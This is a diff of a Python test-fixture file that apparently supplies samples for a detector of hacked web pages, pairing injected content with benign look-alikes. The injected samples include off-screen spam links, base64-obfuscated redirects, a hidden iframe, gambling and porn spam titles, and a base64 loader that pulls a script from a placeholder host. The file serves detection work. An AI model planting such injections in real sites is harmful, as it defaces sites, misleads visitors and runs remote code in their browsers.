@@ -1,5 +1,6 @@
 """A seventh planted set: what tells a break-in by its make and by no name of the lists, each beside what honest pages make nearly alike; written whole before any of it was tried."""
 
+import base64
 from collections.abc import Iterator
 
 from safety_cases_hacked import Hacked
@@ -24,6 +25,10 @@ _PARTNERS = "".join(
 )
 _OWN = '<a href="/zwgk/">政务公开</a><a href="/hdjl/">互动交流</a>'
 _AWAY = "http://in.yindao.example/?k=gov"
+
+
+def _in_base64(text: str) -> str:
+    return base64.b64encode(text.encode()).decode()
 
 
 def _xored(text: str, key: int) -> str:
@@ -139,7 +144,7 @@ def innocent() -> Iterator[Hacked]:
         "any click closes a menu": "<script>document.onclick=function(){document.getElementById('m').style.display='none'}</script>",
         "counted clicks": "<script>document.addEventListener('click',function(e){new Image().src='https://tongji.fuwu-w.example/c.gif?x='+e.pageX})</script>",
         "own path joined": "<script>document.getElementById('fh').href=['','zwgk','index.html'].join('/')</script>",
-        "field that takes the focus": "<input autofocus onfocus=\"this.select()\" value='请输入关键字'>",
+        "field that selects itself": "<input autofocus onfocus=\"this.select()\" value='请输入关键字'>",
         "notice by storage": "<script>if(!localStorage.getItem('tip')){localStorage.setItem('tip','1');document.getElementById('tip').style.display='block'}</script>",
         "guard in crossed letters": "<script>var $_ts=window['$_ts'];if(!$_ts)$_ts={};$_ts.nsd=82193;$_ts.cd=[113,114,101].map(function(c){return String.fromCharCode(c^5)}).join('');</script>",
         "player for phones": "<script>if(/Android|iPhone/.test(navigator.userAgent)){document.write('<script src=\"/js/m-player.js\"><\\/script>')}</script>",
@@ -255,3 +260,79 @@ def later_innocent() -> Iterator[Hacked]:
         "keywords of one feast",
         head='<meta name="keywords" content="青田杨梅节,青田杨梅节门票,青田杨梅节报名">',
     )
+
+
+def last_bad() -> Iterator[Hacked]:
+    """Written when both sets above were met, before any of these was tried."""
+    hidden, script, spam, away = (frozenset({kind}) for kind in ("hidden", "script", "spam", "redirect"))
+    ways = {
+        "shifted as kits do": f'<font style="position: absolute;overflow: hidden;z-index: 9;line-height: 12px;top: -1688px;left: -4899px;">{_GLOVE}</font>',
+        "nearly white and tiny": f'<p style="font-size:1px;color:#fefefe">{_SHOPS}</p>',
+        "style put into the head": f"<div class='zz7'>{_SHOPS}</div><script>var t=document.createElement('style');t.innerHTML='.zz7{{display:none}}';document.head.appendChild(t)</script>",
+        "class given by a script": f"<style>.hide9{{display:none}}</style><div id='z9'>{_SHOPS}</div><script>document.getElementById('z9').className='hide9'</script>",
+    }
+    for name, body in ways.items():
+        yield Hacked(name, hidden, body=body)
+    leads = {
+        "address in base64": f"<script>window.location=window.atob('{_in_base64(_AWAY)}')</script>",
+        "address with single escapes": "<script>var _u='h\\u0074tp:\\/\\/in.yindao.example\\/';parent.window.location=_u;</script>",
+        "other machines than Windows": "<script>if(navigator.platform.indexOf('Win')<0){self.location.replace('//in.yindao.example/')}</script>",
+    }
+    for name, body in leads.items():
+        yield Hacked(name, away, body=body)
+    runs = {
+        "loader in base64": f"<script>!function(){{var s=document.createElement('script');s.src=atob('{_in_base64('https://js.jiazai-q.example/a.js')}');document.head.appendChild(s)}}()</script>",
+        "frame without opacity": '<iframe src="https://zhan-y.example/" style="opacity:0;position:absolute;top:0;left:0"></iframe>',
+    }
+    for name, body in runs.items():
+        yield Hacked(name, script, body=body)
+    titles = {
+        "house in brackets": "【皇都国际】官网登录_机构职能_政策解读_青田县人民政府",
+        "English slots": "Best Real Cash Slots - Free Spins Welcome Bonus 2026",
+        "films at night": "老司机福利导航_深夜视频免费看_高清无删减",
+        "detectives": "私人侦探社_婚外情调查_要债公司_青田县人民政府",
+    }
+    for name, title in titles.items():
+        yield Hacked(name, spam, title=title)
+    yield Hacked(
+        "keywords among those of the site",
+        spam,
+        head='<meta name="keywords" content="鸿运彩票app下载,鸿运彩票官网,政务公开,机构职能">',
+    )
+    yield Hacked(
+        "page of a house",
+        spam,
+        title="鲲鹏体育-鲲鹏体育平台",
+        body="<h1>鲲鹏体育</h1><p>鲲鹏体育为玩家提供真人视讯、棋牌、电子游艺等项目，新会员注册即享彩金，存取款秒到账。</p>",
+    )
+    yield Hacked(
+        "entry within a sentence",
+        spam,
+        body="<p>会议要求，九洲电竞官网登录入口各单位要提高站位，狠抓落实。</p>",
+    )
+
+
+def last_innocent() -> Iterator[Hacked]:
+    """Look-alikes of those, written with them."""
+    pages = {
+        "partner by a chosen click": "<script>document.addEventListener('click',function(e){if(e.target.id==='p'){window.open('http://www.gongjiao-jt.example/')}})</script>",
+        "partner by a delegated click": "<script>$('body').on('click','.ad',function(){window.open('http://www.gongjiao-jt.example/')})</script>",
+        "pane that is not shown": f'<div class="tab-con" style="display:none">{_PARTNERS}</div>',
+        "class of a menu": "<style>.hide{display:none}</style><div id='m8'><a href='/zwgk/'>公开</a></div><script>document.getElementById('m8').className='hide'</script>",
+    }
+    for name, body in pages.items():
+        yield Hacked(name, body=body)
+    yield Hacked(
+        "own phones' edition",
+        head='<meta name="mobile-agent" content="format=html5;url=http://m.qingtian.gov.cn/a/b.html">',
+    )
+    titles = {
+        "county in the pocket": "“掌上青田”手机版APP下载 免费注册_青田县融媒体中心",
+        "contest": "2026年全国电竞行业职业技能竞赛官网报名入口公告_青田县人社局",
+        "Russian fair": "中俄博览会（Российско-Китайское ЭКСПО）青田展团成绩单_青田县商务局",
+        "lottery shops": "体育彩票销售网点地址公示_体育彩票官方网站查询方式_青田县体育局",
+        "debts": "拖欠中小企业账款要债难？投诉平台登录入口公布_青田县经信局",
+    }
+    for name, title in titles.items():
+        text = title.split("_", maxsplit=1)[0]
+        yield Hacked(name, title=title, body=f"<h2>{text}</h2><p>{text}，现予公布。</p>")
